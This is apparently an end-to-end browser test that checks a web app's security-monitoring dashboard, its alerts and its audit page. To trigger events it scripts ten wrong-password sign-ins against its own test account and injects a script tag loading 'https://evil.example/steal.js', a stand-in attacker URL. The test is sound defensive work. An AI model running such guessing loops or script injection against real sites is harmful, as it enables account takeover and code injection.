import type { Page } from 'playwright-core';
import { describe, expect } from 'vitest';
import { screenshot, waitForConsole } from './support/browser';
import { test } from './support/fixtures';

async function statValue(page: Page, testId: string): Promise<number> {
  const text = await page.getByTestId(testId).locator('.text-2xl').textContent();
  return Number((text ?? '').replace(/[^\d]/g, ''));
}

const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

describe('security center', () => {
  test('failed sign-ins and a CSP violation show in Security Monitoring; the audit runs and shows its checks', async ({
    server,
    clientIp,
    newContext,
    signUp,
  }) => {
    const admin = await signUp({ firstName: 'Sec', lastName: 'Admin', admin: true });

    // Someone guesses a password on the sign-in page, three times.
    const intruder = await newContext({ viewport: { width: 1280, height: 900 } });
    const guess = await intruder.newPage();
    await guess.goto(`${server.url}/auth`);
    for (let attempt = 1; attempt <= 3; attempt += 1) {
      await guess.getByLabel('Email').fill(admin.email);
      await guess.getByLabel('Password').fill(`not-the-password-${attempt}`);
      await guess.getByRole('button', { name: 'Sign in' }).click();
      await guess.getByText('Incorrect e-mail or credentials.').first().waitFor();
      await guess.waitForTimeout(300);
    }
    // … and seven more by script: ten within fifteen minutes raise an alert.
    for (let attempt = 4; attempt <= 10; attempt += 1) {
      const refused = await intruder.request.post(`${server.url}/api/auth/sign-in/email`, {
        headers: { origin: server.url },
        data: { email: admin.email, password: `not-the-password-${attempt}` },
      });
      expect(refused.status()).toBe(401);
    }

    // A page of Parley's loads a script from elsewhere: the browser refuses it and reports the violation.
    const reported = guess.waitForRequest((request) => request.url().endsWith('/api/csp-report') && request.method() === 'POST');
    await guess.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/steal.js';
      document.body.appendChild(script);
    });
    await reported;
    await intruder.close();

    // Security Monitoring shows both.
    const { page } = admin;
    await page.goto(`${server.url}/admin/security`);
    await waitForConsole(page);
    await page.getByTestId('security-score-value').waitFor();
    await expect.poll(() => statValue(page, 'stat-failed-sign-ins')).toBeGreaterThanOrEqual(3);
    expect(await statValue(page, 'stat-csp-violations')).toBeGreaterThanOrEqual(1);
    expect(await statValue(page, 'stat-api-calls')).toBeGreaterThan(0);
    await screenshot(page, 'security-monitoring-overview');

    // The burst raised alerts (on this test's address and on the account: the server is shared, other tests' alerts
    // are not counted); one is resolved with notes, and shows so among the resolved.
    const alerts = page
      .getByTestId('security-alert')
      .filter({ hasText: new RegExp(`Failed sign-in burst (from ${escapeRegExp(clientIp)}(?!\\d)|on ${escapeRegExp(admin.email)})`) });
    await alerts.first().waitFor();
    const open = await alerts.count();
    await alerts.first().getByRole('button', { name: 'Resolve' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('Notes (optional)').fill('Our own end-to-end guesses');
    await dialog.getByRole('button', { name: 'Resolve' }).click();
    await page.getByText('Alert resolved successfully').waitFor();
    await expect.poll(() => alerts.count()).toBe(open - 1);
    await page.getByRole('button', { name: 'Show resolved too' }).click();
    await alerts.filter({ hasText: 'Our own end-to-end guesses' }).waitFor();

    await page.getByRole('tab', { name: 'Security Events' }).click();
    // The guesses at this test's account (the server is shared: other tests' failed sign-ins are listed too).
    const failed = page.getByTestId('security-event-row').filter({ hasText: 'Signin failed' }).filter({ hasText: admin.email });
    await failed.first().waitFor();
    expect(await failed.count()).toBeGreaterThanOrEqual(3);
    await failed.first().getByText(admin.email).waitFor();
    await screenshot(page, 'security-monitoring-events');

    await page.getByRole('tab', { name: 'CSP Violations' }).click();
    const violation = page.getByTestId('csp-violation-row').filter({ hasText: 'https://evil.example/steal.js' });
    await violation.waitFor();
    await violation.getByText('script-src-elem').waitFor();
    // Parley's own pages cause none (Zod's eval probe is off: apps/web/public/zod-jitless.js).
    expect(await page.getByTestId('csp-violation-row').filter({ hasText: 'eval' }).count()).toBe(0);
    await screenshot(page, 'security-monitoring-csp');

    await page.getByRole('tab', { name: 'API Usage' }).click();
    await page.getByText('API calls over time').waitFor();
    await page.getByTestId('api-route-row').filter({ hasText: '/api/auth/*' }).first().waitFor();
    await page.getByRole('button', { name: '7 days' }).click();
    await page.waitForURL(/window=7d/);
    await page.getByText('Calls per 6 hours in the last 7 days').waitFor();
    await screenshot(page, 'security-monitoring-api-usage');

    // The audit: none yet, then a run with its checks, the coverage and a link to the activity log.
    await page.goto(`${server.url}/admin/security/audit`);
    await page.getByText('No audit has run yet').waitFor();
    await page.getByRole('button', { name: 'Run Audit' }).first().click();
    await page.getByTestId('audit-health').waitFor();
    expect(await page.getByTestId('rls-coverage').textContent()).toBe('100%');
    const checks = page.getByTestId('audit-check');
    expect(await checks.count()).toBeGreaterThanOrEqual(10);
    // The e2e server is a production build over plain http on 127.0.0.1: HTTPS fails, with its reason.
    await page
      .getByTestId('audit-check')
      .filter({ hasText: 'Served over HTTPS' })
      .getByText(/PUBLIC_URL is http:\/\/127\.0\.0\.1/)
      .waitFor();
    await page.getByTestId('audit-check').filter({ hasText: 'Every route declares who may call it' }).and(page.locator('[data-status="pass"]')).waitFor();
    await screenshot(page, 'security-audit');
    await page.getByRole('link', { name: 'Activity logs' }).click();
    await page.waitForURL(/\/admin\/activity$/);
    await page.getByTestId('activity-row').filter({ hasText: 'security_audit_run' }).first().waitFor();
  });
});
